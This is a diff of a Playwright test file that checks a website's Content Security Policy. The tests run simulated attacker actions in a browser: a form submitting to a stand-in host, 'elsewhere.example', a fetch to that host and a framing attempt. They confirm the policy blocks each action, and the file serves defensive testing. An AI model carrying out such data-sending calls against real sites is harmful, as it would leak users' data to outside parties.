@@ -1,10 +1,13 @@
 /** Attacks that the security policy stops in a real browser. */
+import type { Page } from '@playwright/test';
 import { expect, test } from '../fixtures.ts';
 import { serve } from '../serve.ts';
 
 /** Waits until the policy has stopped this, and takes it off the list that fails the test. */
-async function expectStopped(violations: string[], directive: string): Promise<void> {
+async function expectStopped(page: Page, violations: string[], directive: string): Promise<void> {
   await expect.poll(() => violations.join('\n')).toContain(directive);
+  // The browser tells it, and a moment later the page.
+  await page.evaluate(() => new Promise((drawn) => requestAnimationFrame(drawn)));
   violations.length = 0;
 }
 
@@ -13,31 +16,6 @@ const openElsewhere = (html: string) =>
   serve((_request, response) => {
     response.writeHead(200, { 'content-type': 'text/html' }).end(html);
   });
-
-const everywhere = {
-  'x-content-type-options': 'nosniff',
-  'referrer-policy': 'strict-origin-when-cross-origin',
-  'cross-origin-opener-policy': 'same-origin',
-  'strict-transport-security': 'max-age=31536000',
-};
-
-test('every answer of the site carries the security headers', async ({ request }) => {
-  const home = await request.get('/');
-  const policy = home.headers()['content-security-policy'];
-  expect(policy).toMatch(/^default-src 'none'; script-src 'self' ('sha256-[\w+/]{43}=' ?)+;/);
-  expect(policy).not.toContain('unsafe-eval');
-  expect(policy?.match(/'unsafe-inline'/g)).toHaveLength(1);
-  const [script = ''] = /\/assets\/[^"\s]+\.js/.exec(await home.text()) ?? [];
-  for (const path of ['/', '/login', script, '/images/none.png', '/about/', '/sitemap.xml']) {
-    const answer = await request.get(path, { maxRedirects: 0 });
-    const headers = answer.headers();
-    expect(headers, path).toMatchObject({ ...everywhere, 'content-security-policy': policy });
-    expect(headers, path).not.toHaveProperty('set-cookie');
-    expect(headers, path).not.toHaveProperty('access-control-allow-origin');
-  }
-  const asset = await request.get(script);
-  expect(asset.headers()['cross-origin-resource-policy']).toBe('same-origin');
-});
 
 interface Attempt {
   name: string;
@@ -80,12 +58,11 @@ const attempts: Attempt[] = [
   {
     name: 'a form that sends to elsewhere',
     stoppedBy: 'form-action',
-    attempt: async () => {
+    attempt: () => {
       const form = document.createElement('form');
       form.action = 'https://elsewhere.example/leads';
       document.body.append(form);
       form.submit();
-      await new Promise((resolve) => setTimeout(resolve, 200));
       return false;
     },
   },
@@ -115,17 +92,25 @@ test('an attacker’s code cannot run, load files or send data from the site', a
   for (const { name, stoppedBy, attempt } of attempts) {
     await test.step(name, async () => {
       expect(await page.evaluate(attempt)).toBe(false);
-      await expectStopped(policyViolations, stoppedBy);
+      await expectStopped(page, policyViolations, stoppedBy);
       expect(await page.evaluate(() => window.location.pathname)).toBe('/about');
     });
   }
   expect(left).toEqual([]);
 });
 
-test('every journey fails when the policy stops something unexpected', async ({ page }) => {
+test('every journey fails when the policy stops something unexpected', async ({
+  page,
+  policyViolations,
+}) => {
   test.fail();
-  await page.goto('/about');
-  await page.evaluate(() => fetch('https://elsewhere.example/').catch(() => null));
+  const callElsewhere = async () => {
+    await page.goto('/about');
+    await page.evaluate(() => fetch('https://elsewhere.example/').catch(() => null));
+    await expect.poll(() => policyViolations.join('\n')).toContain('connect-src');
+  };
+  // After any other failure it passes, which the first line does not allow.
+  await callElsewhere().catch(() => policyViolations.splice(0));
 });
 
 test('another website cannot put the site into a frame', async ({
@@ -135,7 +120,7 @@ test('another website cannot put the site into a frame', async ({
 }) => {
   const elsewhere = await openElsewhere(`<iframe src="${stack.url}/login"></iframe>`);
   await page.goto(elsewhere.url);
-  await expectStopped(policyViolations, 'frame-ancestors');
+  await expectStopped(page, policyViolations, 'frame-ancestors');
   const [, frame] = page.frames();
   await expect(frame?.locator('body') ?? page.locator('body')).not.toContainText('Password');
   elsewhere.close();
